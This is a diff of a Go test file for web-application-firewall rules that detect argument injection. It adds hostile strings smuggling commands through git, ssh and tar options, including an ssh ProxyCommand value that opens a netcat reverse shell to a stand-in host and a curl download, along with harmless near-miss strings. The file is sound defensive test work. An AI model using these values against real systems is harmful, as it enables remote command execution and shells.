@@ -43,6 +43,10 @@ var argumentAttacks = []string{
 	"-c remote.origin.uploadpack=id", "-c include.path=x.cfg",
 	"-Itouch x; cat", "-I id", "-I/srv/uploads/run", "-Icurl -o x http://e/x", "--use-compress-prog=id", "--use-c=id", "--use=id", "--to-com=id", "--checkpoint-act=exec=id",
 	"--checkpoint-action exec=id", "--info-script=id", "--new-volume-script=id", "--rsh=id", "-F id", "-F/srv/uploads/run",
+	// attack 11, BROKE 5: bundled short options, git clone's -u
+	"-4oProxyCommand=id", "-vvvoProxyCommand=id", "-AoProxyCommand=nc -e sh e.x 4444", "-4o ProxyCommand=id", "-Cvo ProxyCommand=id",
+	"-4oLocalCommand id", "-u id", "-uid;x", "-qu id", "-u/srv/uploads/run", "-vqu id", "-uid&x", "-xvI id", "-cvf x -I id", "-xvI/srv/uploads/run",
+	"-czf out.tgz -Itouch x; cat",
 }
 
 var execBenign = []string{
@@ -58,6 +62,9 @@ var execBenign = []string{
 	"-Infinity", "-Inf", "-INF", "-inline", "-i", "-f id", "-F", "-I", "-c", "--config", "-- e", "--e-mail",
 	"--checkpoint=10", "-2", "-Oh no", "-c filter.lfs.required=true",
 	"-Iid", "-Fid", "-IxZ4_k2-Qw9", "-Fq8vN-3_pLm", "-Inf to 7", "-Infinity and beyond",
+	// near attack 11, BROKE 5
+	"-4oProxyJump=bastion", "-Co Compression=yes", "-u", "-uid", "-used", "-updated the docs", "-qutouch", "-user: ann",
+	"--u-turn", "-xvIid", "-xvInf to 7", "-HI there", "-WIFI is down", "-cvf x.tar dir", "-cvf x -I", "-Uid ann",
 }
 
 // execMatches runs v through rules 210180-210186 in Coraza with the
